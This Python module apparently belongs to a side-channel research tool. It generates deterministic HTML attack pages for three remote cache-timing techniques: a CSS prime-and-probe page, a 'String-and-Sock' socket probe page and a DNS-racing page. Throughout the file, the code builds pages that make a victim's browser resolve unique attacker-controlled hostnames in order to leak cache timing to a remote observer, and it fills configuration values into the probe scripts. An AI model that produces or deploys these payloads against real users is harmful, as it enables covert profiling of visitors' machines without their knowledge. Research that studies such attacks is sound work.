"""Deterministic browser payload generation.

Three page flavors, one per remote-timing technique:

* CSS probe page: pure HTML+CSS, zero script bytes. A style rule per inner
  div whose attribute selector searches the outer div's huge class string
  for a needle that is not there; the miss scans the whole string (the
  cache probe) and the rule's background-image URL then makes the browser
  resolve a unique attacker hostname (the timestamp).
* String-and-Sock page: embeds the socket probe script asset configured for
  the target architecture's string size.
* DNS-racing page: embeds the racing script asset with pre-drawn unique
  nonces per round.

All output is byte-deterministic for a fixed (spec, seed).
"""

from __future__ import annotations

import json
import re
import string
from dataclasses import dataclass
from pathlib import Path
from typing import Optional

from ..arch import ArchProfile
from ..errors import InvalidSpecError
from ..rng import derive_rng
from ..trace import Technique

ASSET_DIR = Path(__file__).parent / "assets"
CONFIG_MARKER = "/*__CONFIG__*/"

_LABEL_RE = re.compile(r"^(?!-)[a-z0-9-]{1,63}(?<!-)$")


def _valid_domain(domain: str) -> bool:
    if not domain or len(domain) > 253:
        return False
    return all(_LABEL_RE.match(lab) for lab in domain.lower().split("."))


@dataclass(frozen=True)
class PayloadSpec:
    technique: Technique
    arch: ArchProfile
    domain: str
    trace_id: str
    seed: int = 0
    ws_url: Optional[str] = None
    n_elements: int = 10_000
    class_len: int = 2_000_000
    needle_len: int = 6
    decimation_n: int = 1
    rounds: int = 100

    def __post_init__(self):
        if self.n_elements < 1:
            raise InvalidSpecError("n_elements must be >= 1")
        if self.class_len < self.needle_len:
            raise InvalidSpecError("class_len must be >= needle_len")
        if self.needle_len < 1:
            raise InvalidSpecError("needle_len must be >= 1")
        if self.decimation_n < 1:
            raise InvalidSpecError("decimation_n must be >= 1")
        if self.rounds < 1:
            raise InvalidSpecError("rounds must be >= 1")
        if not _valid_domain(self.domain):
            raise InvalidSpecError(f"domain {self.domain!r} is not a valid DNS name")
        if not _LABEL_RE.match(self.trace_id):
            raise InvalidSpecError(f"trace_id {self.trace_id!r} must be a valid DNS label")


def load_asset(name: str) -> str:
    return (ASSET_DIR / name).read_text(encoding="utf-8")


def render_asset(name: str, config: dict) -> str:
    """Replace the single config marker line with the config assignment."""
    text = load_asset(name)
    if text.count(CONFIG_MARKER) != 1:
        raise InvalidSpecError(f"asset {name} must contain exactly one {CONFIG_MARKER} line")
    assignment = "globalThis.__PROBE_CONFIG__ = " + json.dumps(
        config, sort_keys=True, separators=(", ", ": ")) + ";"
    return text.replace(CONFIG_MARKER, assignment)


def _needle(rng, length: int) -> str:
    # lowercase a-z with at least one character other than 'a'/'A', so the
    # attribute-selector search over the all-'A' class can never match
    chars = [string.ascii_lowercase[int(c)] for c in rng.integers(0, 26, length)]
    if all(ch == "a" for ch in chars):
        chars[-1] = string.ascii_lowercase[1 + int(rng.integers(0, 25))]
    return "".join(chars)


def _nonce(rng, length: int = 8) -> str:
    return "".join(string.ascii_lowercase[int(c)] for c in rng.integers(0, 26, length))


def gen_css_pp(spec: PayloadSpec) -> str:
    """Script-free probe page; see the module docstring for the mechanism."""
    if spec.technique is not Technique.CSS_PP:
        raise InvalidSpecError(f"gen_css_pp needs technique=css_pp, got {spec.technique.value}")
    rng = derive_rng(spec.seed, "payload-css-" + spec.trace_id)
    rules = []
    for i in range(spec.n_elements):
        needle = _needle(rng, spec.needle_len)
        nonce = _nonce(rng)
        rules.append(
            f"#pp:not([class*='{needle}']) #s{i} "
            f'{{background-image: url("https://{nonce}-{i}.{spec.trace_id}.{spec.domain}");}}'
        )
    # completion sentinel: requested once the probe rules are processed
    rules.append(f'#pp #send {{background-image: url("https://end.{spec.trace_id}.{spec.domain}");}}')
    divs = "\n".join(f'<div id="s{i}">X</div>' for i in range(spec.n_elements))
    cls = "A" * spec.class_len
    return (
        "<html>\n<head>\n<style>\n"
        + "\n".join(rules)
        + "\n</style>\n</head>\n<body>\n"
        + f'<div id="pp" class="{cls}">\n'
        + divs
        + '\n<div id="send">X</div>\n'
        + "</div>\n</body>\n</html>\n"
    )


def gen_string_and_sock(spec: PayloadSpec) -> str:
    if spec.technique is not Technique.STRING_SOCK:
        raise InvalidSpecError(
            f"gen_string_and_sock needs technique=string_sock, got {spec.technique.value}")
    if not spec.ws_url:
        raise InvalidSpecError("string_sock payload needs ws_url")
    config = {
        "technique": Technique.STRING_SOCK.value,
        "string_chars": spec.arch.sns_string_chars,
        "needle_len": spec.needle_len,
        "ws_url": spec.ws_url,
        "decimation_n": spec.decimation_n,
        "rounds": spec.rounds,
        "trace_id": spec.trace_id,
    }
    script = render_asset("sns_probe.js", config)
    return _page_with_script(script)


def gen_dns_racing(spec: PayloadSpec) -> str:
    if spec.technique is not Technique.DNS_RACING:
        raise InvalidSpecError(
            f"gen_dns_racing needs technique=dns_racing, got {spec.technique.value}")
    rng = derive_rng(spec.seed, "payload-dns-" + spec.trace_id)
    nonces = []
    seen = set()
    while len(nonces) < spec.rounds:
        n = _nonce(rng)
        if n not in seen:
            seen.add(n)
            nonces.append(n)
    config = {
        "technique": Technique.DNS_RACING.value,
        "rounds": spec.rounds,
        "zone": spec.domain,
        "trace_id": spec.trace_id,
        "nonces": nonces,
        "probe_bytes": spec.arch.llc_bytes,
    }
    script = render_asset("dns_race.js", config)
    return _page_with_script(script)


def _page_with_script(script: str) -> str:
    return (
        "<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n</head>\n<body>\n"
        "<script>\n" + script + "\n</script>\n</body>\n</html>\n"
    )


def generate(spec: PayloadSpec) -> str:
    """Dispatch on the spec's technique."""
    if spec.technique is Technique.CSS_PP:
        return gen_css_pp(spec)
    if spec.technique is Technique.STRING_SOCK:
        return gen_string_and_sock(spec)
    if spec.technique is Technique.DNS_RACING:
        return gen_dns_racing(spec)
    raise InvalidSpecError(f"no payload generator for technique {spec.technique.value}")
